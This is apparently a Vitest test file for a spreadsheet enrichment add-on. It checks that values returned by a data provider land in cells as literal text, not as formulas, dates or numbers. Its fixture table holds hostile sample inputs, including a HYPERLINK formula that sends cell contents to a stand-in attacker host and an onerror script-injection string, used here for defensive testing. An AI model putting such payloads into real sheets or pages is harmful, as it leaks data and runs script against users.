// What a provider sends arrives as the text that it is: never a formula, a date, another number.

import { readFileSync } from 'node:fs';
import { expect, test } from 'vitest';
import { createHost } from '../../workbench/host/host';
import { ANN, SAMPLE_KEY, scene } from './scene';

const LONG = 'lorem ipsum '.repeat(5000);

const VALUES: Record<string, string> = {
  formula: '"=HYPERLINK(\\"https://evil.example?x=\\"&A1,\\"click\\")"',
  plus: '"+1 555 0100"',
  minus: '"-1+2"',
  at: '"@SUM(A1:A3)"',
  zeros: '"007"',
  date: '"1/2/2024"',
  month: '"May 5"',
  percent: '"50%"',
  boolean: '"TRUE"',
  quote: '"\'tis"',
  tab: '"\\t=1+1"',
  space: '" =1+1"',
  bigint: '17841401234567891',
  markup: '"<img src=x onerror=alert(1)>"',
  long: JSON.stringify(LONG),
  number: '42.5',
  yes: 'true',
  list: '["a","b"]',
  object: '{"a":{"b":1}}',
};

test('every kind of value arrives in its cell as it was sent, the long one cut with a mark', () => {
  const outputs = Object.fromEntries(Object.keys(VALUES).map((name) => [name, `out ${name}`]));
  const body = `{"task_id":"t","status":"completed","credits_spent":1,"data":[{${Object.entries(VALUES)
    .map(([name, json]) => `"${name}":${json}`)
    .join(',')}}]}`;
  const host = createHost({
    code: readFileSync('dist/Code.js', 'utf8'),
    users: [ANN],
    fetch: (requests) =>
      requests.map((request) => {
        const text = request.url.endsWith('/bulk-run')
          ? '{"task_id":"t","status":"processing"}'
          : request.url.includes('/tasks/')
            ? body
            : '';
        return { status: text === '' ? 404 : 200, headers: {}, body: text, tookMs: 100 };
      }),
  });
  const person = host.person(ANN);
  person.addTab('Leads');
  person.tab('Leads').load([['Company'], ['Acme']]);
  const call = (name: string, args: object) =>
    JSON.parse(String(host.run({ user: ANN, fn: 'rpc', args: [name, JSON.stringify(args)], as: 'sidebar' }).value));
  const recipe = {
    version: 1,
    name: 'x',
    operation: 'databar.enrichment',
    settings: { enrichment: 1 },
    sheet: 'Leads',
    inputs: { company: 'Company' },
    outputs,
  };
  call('saveKey', { provider: 'databar', key: SAMPLE_KEY, test: false });
  const plan = call('plan', { recipe }).value;
  call('start', { recipe, planId: plan.planId, shown: { toBuy: 1, maxCredits: null } });
  for (let i = 0; i < 20; i++) {
    host.clock.advance(5000);
    call('advance', {});
  }
  const [headers, row] = person.tab('Leads').values() as [string[], unknown[]];
  const cell = (name: string) => row[headers.indexOf(`out ${name}`)];
  for (const [name, json] of Object.entries(VALUES)) {
    if (name === 'long') continue;
    const sent = name === 'bigint' ? '17841401234567891' : JSON.parse(json);
    expect(cell(name), name).toBe(typeof sent === 'object' ? JSON.stringify(sent) : sent);
  }
  const long = String(cell('long'));
  expect(long.length).toBeLessThanOrEqual(50_000);
  expect(long.length).toBeGreaterThan(49_000);
  expect(LONG.startsWith(long.slice(0, 49_000))).toBe(true);
  expect(long).toMatch(/\[cut by Backfill\]$/);
  expect(
    person
      .tab('Leads')
      .formulas()
      .flat()
      .filter((formula) => formula !== ''),
  ).toEqual([]);
});

test('the simulated provider’s hostile results leave no formula anywhere in the document', () => {
  const s = scene({ rows: [['Hostile Harry', 'Acme', '', '', '', '']] });
  s.giveKey();
  s.run();
  for (const tab of s.person.tabs())
    expect(
      s.person
        .tab(tab.name)
        .formulas()
        .flat()
        .filter((formula) => formula !== ''),
    ).toEqual([]);
});
